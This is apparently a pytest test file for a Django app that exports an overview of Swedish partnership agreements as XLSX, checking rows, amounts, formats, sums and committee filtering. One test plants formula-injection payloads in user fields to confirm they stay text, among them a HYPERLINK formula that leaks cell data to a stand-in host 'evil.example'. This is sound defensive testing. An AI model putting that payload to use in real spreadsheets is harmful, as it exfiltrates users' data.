"""The overview table as XLSX: the same rows, amounts as numbers with a thousands format."""

import io
import re
from datetime import datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db


def test_overview_2022_as_xlsx(client, secretary, seed):
    client.force_login(secretary)
    response = client.get(reverse("reports:overview_xlsx"), {"year": 2022})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="iop-oversikt-2022.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "Namn",
        "Samverkanspart/-er",
        "Kategorisering/målgrupp",
        "Verksamhetens syfte",
        "Beräknat värde/år",
        "Kostnad AN/år",
        "Giltighet",
    )
    assert [(r[0], r[1], r[4], r[5], r[6]) for r in rows[1:6]] == [
        ("Hoppfull framtid", "Linköpings Stadsmission", 2080500, 1100000, datetime(2023, 12, 31)),
        ("Bro-modellen", "Bilda, Erikshjälpen", 1791200, 1150000, datetime(2023, 12, 31)),
        ("Vi Ses!", "Röda Korset", 1156000, 600000, datetime(2023, 12, 31)),
        ("Kompletterande språkträning", "Bilda, bildningsnämnden", 897626, 295000, datetime(2023, 12, 31)),
        (
            "Inkludering på lika villkor",
            "Internationella Kvinnoföreningen",
            454000,
            230000,
            datetime(2022, 12, 31),
        ),
    ]
    assert rows[6][0] == "Summa"
    # The sums are formulas over the rows above (issue 25), which add up to the memo's Summa.
    assert (rows[6][4], rows[6][5]) == ("=SUBTOTAL(109,E2:E6)", "=SUBTOTAL(109,F2:F6)")
    assert (sum(r[4] for r in rows[1:6]), sum(r[5] for r in rows[1:6])) == (6379326, 3375000)
    assert sheet.auto_filter.ref == "A1:G6"
    assert sheet["E2"].number_format == '#,##0 "kr"'
    assert sheet["G2"].number_format == "yy.mm.dd"
    assert len(rows) == 7


def test_amounts_are_in_the_years_prices(client, secretary, seed):
    client.force_login(secretary)
    response = client.get(reverse("reports:overview_xlsx"), {"year": 2024})
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    ikf = next(row for row in rows if row[0] == "Inkludering på lika villkor")
    assert (ikf[4], ikf[5]) == (918000, 459000)


def test_a_year_is_required(client, secretary, seed):
    client.force_login(secretary)
    assert client.get(reverse("reports:overview_xlsx")).status_code == 404


def test_free_text_is_never_a_formula(client, secretary, seed):
    """Names, partners, target groups and purposes are typed by users: a value starting with
    = + - @ reaches Excel as that text, never as a formula."""
    import zipfile

    from partnerships.models import Partner

    ikf = seed["ikf2021"]
    ikf.name = '=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")'
    ikf.purpose = "+1+2"
    ikf.target_group = "@SUM(1,2)"
    ikf.level_from = ikf.level_to = None
    ikf.save()
    Partner.objects.filter(parties__agreement=ikf).update(name="-2+3")
    client.force_login(secretary)
    content = client.get(reverse("reports:overview_xlsx"), {"year": 2022}).content

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    # The only formulas are the sums row's two (issue 25); no text became one.
    formulas = re.findall(r"<f>(.*?)</f>", sheet_xml)
    assert formulas == ["SUBTOTAL(109,E2:E6)", "SUBTOTAL(109,F2:F6)"] and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    row = next(line for line in sheet.iter_rows(min_row=2) if str(line[0].value).startswith("=HYPERLINK"))
    assert [cell.value for cell in row[:4]] == [ikf.name, "-2+3", "@SUM(1,2)", "+1+2"]
    assert [cell.data_type for cell in row[:4]] == ["s", "s", "s", "s"]
    assert all(cell.quotePrefix for cell in row[:4])
    # numbers and dates stay numbers and dates
    assert (row[4].data_type, row[5].data_type, row[6].is_date) == ("n", "n", True)


def test_which_committee_and_which_agreements(seed):
    """reports.xlsx picks the committee and leaves drafts out, without a request."""
    from partnerships.models import Agreement, Committee
    from reports import xlsx

    an = Committee.objects.get(abbreviation="AN")
    assert xlsx.overview_committee() == an  # the only committee
    assert xlsx.overview_committee(an.pk) == an
    with pytest.raises(Committee.DoesNotExist):
        xlsx.overview_committee(an.pk + 100)
    Agreement.objects.filter(pk=seed["vises"].pk).update(stage=Agreement.Stage.DRAFT)
    other = Committee.objects.create(
        name="Bildningsnämnden", abbreviation="BIN", administration="Utbildningsförvaltningen"
    )
    assert xlsx.overview_committee() is None  # two committees: every committee's agreements

    def names(committee):
        content = xlsx.overview_export(Agreement.objects.all(), year=2022, committee=committee)
        return [row for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]

    every = names(None)
    assert every[0][5] == "Kostnad nämnd/år"
    assert "Vi Ses!" not in [row[0] for row in every]
    assert [row[0] for row in names(other)] == ["Namn", "Summa"]
    assert names(an)[0][5] == "Kostnad AN/år"


def test_an_unknown_committee_is_404(client, secretary, seed):
    client.force_login(secretary)
    assert client.get(reverse("reports:overview_xlsx"), {"year": 2022, "committee": 999}).status_code == 404
